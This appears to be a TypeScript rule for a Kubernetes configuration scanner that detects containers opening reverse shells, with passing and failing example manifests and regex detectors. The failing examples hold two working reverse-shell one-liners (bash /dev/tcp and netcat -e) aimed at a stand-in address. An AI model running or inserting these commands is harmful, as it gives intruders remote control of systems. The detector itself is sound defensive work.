import { defineCheck } from '../../check.ts';
import { at, itemsOf, textOf } from '../../tree/node.ts';

export const podReverseShell = defineCheck({
  id: 'pod-reverse-shell',
  title: 'Container opens a shell to another machine',
  severity: 'critical',
  why: 'This is how an intruder keeps a way in. No program needs a shell whose input and output are a network connection.',
  fix: 'Remove the workload, and find out who made it.',
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  controls: ['nist-800-190:4.1.3', 'nist-800-190:4.4.4', 'nsa-kubernetes:pod-security'],
  reads: 'pod',

  *judge({ containers }) {
    for (const { name, node } of containers) {
      for (const word of ['command', 'args'].flatMap((key) => itemsOf(at(node, key)))) {
        if (isReverseShell(textOf(word) ?? ''))
          yield { at: word, says: `Container "${name}" calls out` };
      }
    }
  },

  examples: {
    pass: [
      `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.4.2
          command: [sh, -c, "nc -z db 5432 && exec /app"]
`,
      `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.4.2
          command: [bash, -c, "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"]
`,
    ],
    fail: [
      `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.4.2
          command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
`,
      `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.4.2
          command: [sh, -c, "nc 203.0.113.7 4444 -e /bin/sh"]
`,
    ],
  },
});

function isReverseShell(script: string): boolean {
  const text = script.slice(0, 20_000);
  return (
    /sh\s+-i\s*[<>0-9&|\s]{1,10}\/dev\/tcp\//.test(text) ||
    /\b(?:nc|ncat|netcat)\s[^\n;|&]{0,200}-[a-z]{0,4}[ec]\s+\S{0,20}sh\b/.test(text)
  );
}
